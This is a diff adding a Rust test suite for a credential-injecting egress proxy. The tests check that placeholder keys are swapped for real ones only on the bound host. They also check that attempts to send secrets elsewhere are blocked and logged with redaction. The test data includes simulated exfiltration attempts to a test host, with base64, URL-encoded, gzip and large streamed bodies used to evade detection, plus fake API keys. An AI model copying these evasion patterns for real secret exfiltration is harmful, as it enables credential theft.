@@ -1,0 +1,308 @@
+//! Credential injection: the phantom is swapped for the real value on the bound host, in
+//! the declared place, and refused anywhere else; the real value never leaves in any form.
+
+use base64::Engine as _;
+
+use crate::support::*;
+
+const REAL: &str = "sk-live-Z3kq9PmW2xR7tY4uV8nB6cD1eF5gH0jA";
+const GIT_REAL: &str = "ghp_4rT9sK2mQ7wX1zY6uV3nB8cD5eF0gH2jL9pM";
+const QUERY_REAL: &str = "AIzaSyA1b2C3d4E5f6G7h8I9j0KlMnOpQrStUvW";
+const TOKEN: &str =
+    "eyJhbGciOiJFUzI1NiJ9.eyJzdWIiOiJzcGlmZmU6Ly9yZW1pdC9hZ2VudC90ZXN0In0.c2lnbmF0dXJl";
+
+fn remit(bound: u16, other: u16) -> String {
+    format!(
+        r#"
+[network]
+allow = ["api.test:{bound}", "other.test:{other}"]
+private = ["127.0.0.1"]
+
+[[network.credential]]
+name = "model"
+env = "MODEL_API_KEY"
+from = {{ env = "REAL_MODEL_KEY" }}
+inject = {{ hosts = ["api.test:{bound}"], header = "x-api-key" }}
+
+[[network.credential]]
+name = "git"
+env = "GIT_TOKEN"
+from = {{ env = "REAL_GIT_TOKEN" }}
+inject = {{ hosts = ["api.test:{bound}"], basic = "password" }}
+
+[[network.credential]]
+name = "maps"
+env = "MAPS_KEY"
+from = {{ env = "REAL_MAPS_KEY" }}
+inject = {{ hosts = ["api.test:{bound}"], query = "key" }}
+"#
+    )
+}
+
+struct World {
+    _rt: tokio::runtime::Runtime,
+    bound: Origin,
+    other: Origin,
+    proxy: Proxy,
+}
+
+fn world() -> World {
+    let rt = runtime();
+    let ca = OriginCa::new();
+    let config = ca.server_config(&["api.test", "other.test"]);
+    let bound = rt.block_on(origin("127.0.0.1:0", Some(config.clone()), hello()));
+    let other = rt.block_on(origin("127.0.0.1:0", Some(config), hello()));
+    let mut setup = Setup::new(&remit(bound.port(), other.port()));
+    setup.resolver = TableResolver::with(&[("api.test", "127.0.0.1"), ("other.test", "127.0.0.1")]);
+    setup.extra_roots = vec![ca.der.clone()];
+    setup.host_env.insert("REAL_MODEL_KEY".into(), REAL.into());
+    setup
+        .host_env
+        .insert("REAL_GIT_TOKEN".into(), GIT_REAL.into());
+    setup
+        .host_env
+        .insert("REAL_MAPS_KEY".into(), QUERY_REAL.into());
+    setup.known = vec![(
+        "the task's identity token".into(),
+        remit_egress::Secret::new(TOKEN),
+    )];
+    let proxy = rt.block_on(setup.start());
+    World {
+        _rt: rt,
+        bound,
+        other,
+        proxy,
+    }
+}
+
+impl World {
+    fn bound_url(&self, path: &str) -> String {
+        format!("https://api.test:{}{path}", self.bound.port())
+    }
+    fn other_url(&self, path: &str) -> String {
+        format!("https://other.test:{}{path}", self.other.port())
+    }
+    fn curl(&self, args: &[&str]) -> (u16, String, String) {
+        let mut all = vec!["--cacert", self.proxy.bundle.to_str().unwrap()];
+        all.extend_from_slice(args);
+        self.proxy.curl(&all)
+    }
+    fn nothing_real_arrived(&self) {
+        for origin in [&self.bound, &self.other] {
+            for seen in origin.requests() {
+                let all = format!(
+                    "{} {:?} {}",
+                    seen.uri,
+                    seen.headers,
+                    String::from_utf8_lossy(&seen.body)
+                );
+                if std::ptr::eq(origin, &self.other) {
+                    assert!(
+                        !all.contains(REAL) && !all.contains(GIT_REAL) && !all.contains(QUERY_REAL),
+                        "{all}"
+                    );
+                }
+                assert!(!all.contains(TOKEN), "{all}");
+            }
+        }
+    }
+}
+
+#[test]
+fn phantoms_are_swapped_on_the_bound_host_only() {
+    let w = world();
+    let phantom = w.proxy.var("MODEL_API_KEY");
+    assert_eq!(phantom.len(), REAL.len());
+    assert!(phantom.starts_with("sk-live-") && phantom != REAL);
+
+    // Header.
+    let (status, _, _) = w.curl(&[
+        "-H",
+        &format!("x-api-key: {phantom}"),
+        &w.bound_url("/v1/messages"),
+    ]);
+    assert_eq!(status, 200);
+    let seen = w.bound.requests().pop().unwrap();
+    assert_eq!(seen.header("x-api-key"), Some(REAL));
+
+    // Basic auth (git's way): the password half.
+    let git_phantom = w.proxy.var("GIT_TOKEN");
+    let (status, _, _) = w.curl(&[
+        "-u",
+        &format!("x-access-token:{git_phantom}"),
+        &w.bound_url("/repo.git/info/refs"),
+    ]);
+    assert_eq!(status, 200);
+    let seen = w.bound.requests().pop().unwrap();
+    let expected =
+        base64::engine::general_purpose::STANDARD.encode(format!("x-access-token:{GIT_REAL}"));
+    assert_eq!(
+        seen.header("authorization"),
+        Some(format!("Basic {expected}").as_str())
+    );
+
+    // Query parameter.
+    let maps = w.proxy.var("MAPS_KEY");
+    let (status, _, _) = w.curl(&[&w.bound_url(&format!("/geo?q=x&key={maps}"))]);
+    assert_eq!(status, 200);
+    let seen = w.bound.requests().pop().unwrap();
+    assert!(
+        seen.uri.ends_with(&format!("/geo?q=x&key={QUERY_REAL}")),
+        "{}",
+        seen.uri
+    );
+
+    // Each use was a `secret_use` effect toward the destination.
+    let uses = w.proxy.gate.effects_of("secret_use");
+    assert_eq!(uses.len(), 3, "{uses:?}");
+    assert!(
+        uses.iter()
+            .all(|(_, d)| *d == remit_egress::GateDecision::Allow)
+    );
+    assert!(eventually(|| records(&w.proxy.gate)
+        .iter()
+        .any(|r| r.credentials == ["model"])));
+
+    // The phantom sent anywhere else is refused, in any place and encoding.
+    let before = w.other.requests().len();
+    for args in [
+        vec![
+            "-H".to_owned(),
+            format!("x-api-key: {phantom}"),
+            w.other_url("/"),
+        ],
+        vec![
+            "-H".to_owned(),
+            format!("authorization: Bearer {phantom}"),
+            w.other_url("/"),
+        ],
+        vec![w.other_url(&format!("/?key={maps}"))],
+        vec![
+            "-u".to_owned(),
+            format!("x:{git_phantom}"),
+            w.other_url("/"),
+        ],
+        vec![
+            "--data".to_owned(),
+            format!("{{\"k\":\"{phantom}\"}}"),
+            w.other_url("/"),
+        ],
+    ] {
+        let args: Vec<&str> = args.iter().map(String::as_str).collect();
+        let (status, headers, body) = w.curl(&args);
+        assert_eq!(status, 403, "{args:?}: {headers}{body}");
+        assert!(
+            headers.contains("x-remit-policy: egress.phantom")
+                || headers.contains("X-Remit-Policy: egress.phantom"),
+            "{headers}"
+        );
+        assert!(body.contains("placeholder of the credential"), "{body}");
+    }
+    assert_eq!(
+        w.other.requests().len(),
+        before,
+        "nothing reached the other host"
+    );
+    assert!(
+        violations(&w.proxy.gate)
+            .iter()
+            .filter(|v| v.kind == remit_egress::ViolationKind::Phantom)
+            .count()
+            >= 5
+    );
+    w.nothing_real_arrived();
+}
+
+#[test]
+fn real_secrets_never_leave() {
+    let w = world();
+    let b64 = base64::engine::general_purpose::STANDARD.encode(format!("exfil:{REAL}"));
+    let url_encoded: String = REAL.bytes().map(|b| format!("%{b:02X}")).collect();
+    let big = w.proxy.dir.path().join("big");
+    // The secret in the middle of a 3 MiB streamed body, across chunk boundaries.
+    let mut content = vec![b'x'; 3 << 20];
+    content[(1 << 20) - 10..(1 << 20) - 10 + REAL.len()].copy_from_slice(REAL.as_bytes());
+    std::fs::write(&big, &content).unwrap();
+    let gz = w.proxy.dir.path().join("body.gz");
+    {
+        use std::io::Write as _;
+        let mut e = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
+        e.write_all(format!("token={TOKEN}").as_bytes()).unwrap();
+        std::fs::write(&gz, e.finish().unwrap()).unwrap();
+    }
+    let cases: Vec<Vec<String>> = vec![
+        vec!["--data".into(), format!("key={REAL}"), w.other_url("/body")],
+        vec![
+            "-H".into(),
+            format!("x-leak: {REAL}"),
+            w.other_url("/header"),
+        ],
+        vec![w.other_url(&format!("/q?x={REAL}"))],
+        vec![w.other_url(&format!("/q?x={url_encoded}"))],
+        vec![
+            "--data".into(),
+            format!("{{\"d\":\"{b64}\"}}"),
+            w.other_url("/b64"),
+        ],
+        vec![
+            "--data-binary".into(),
+            format!("@{}", big.display()),
+            w.other_url("/big"),
+        ],
+        vec![
+            "-H".into(),
+            format!("authorization: Bearer {TOKEN}"),
+            w.other_url("/token"),
+        ],
+        vec![
+            "-H".into(),
+            "content-encoding: gzip".into(),
+            "--data-binary".into(),
+            format!("@{}", gz.display()),
+            w.other_url("/gz"),
+        ],
+        // Even to the bound host, the real value itself is not the task's to send.
+        vec![
+            "-H".into(),
+            format!("x-api-key: {REAL}"),
+            w.bound_url("/v1"),
+        ],
+    ];
+    for args in cases {
+        let refs: Vec<&str> = args.iter().map(String::as_str).collect();
+        let (status, headers, body) = w.curl(&refs);
+        assert_eq!(status, 403, "{args:?}: {headers}{body}");
+        assert!(
+            headers
+                .to_ascii_lowercase()
+                .contains("x-remit-policy: egress.dlp"),
+            "{args:?}: {headers}"
+        );
+        assert!(
+            !body.contains(REAL) && !headers.contains(REAL),
+            "the answer must not echo the secret"
+        );
+    }
+    w.nothing_real_arrived();
+    // The streamed body never delivered the secret's bytes, and records are redacted.
+    for seen in w.other.requests() {
+        assert!(!seen.body.windows(REAL.len()).any(|x| x == REAL.as_bytes()));
+    }
+    assert!(eventually(|| records(&w.proxy.gate).len() >= 9));
+    for event in w.proxy.gate.events() {
+        let text = serde_json::to_string(&event).unwrap();
+        assert!(!text.contains(REAL) && !text.contains(TOKEN), "{text}");
+    }
+    let paths: Vec<String> = records(&w.proxy.gate)
+        .iter()
+        .map(|r| r.path.clone())
+        .collect();
+    assert!(
+        paths.iter().any(|p| p.contains("[REDACTED:model]")),
+        "{paths:?}"
+    );
+
+    // A harmless twin passes.
+    let (status, _, _) = w.curl(&["--data", "key=nothing-secret-here", &w.other_url("/ok")]);
+    assert_eq!(status, 200);
+}
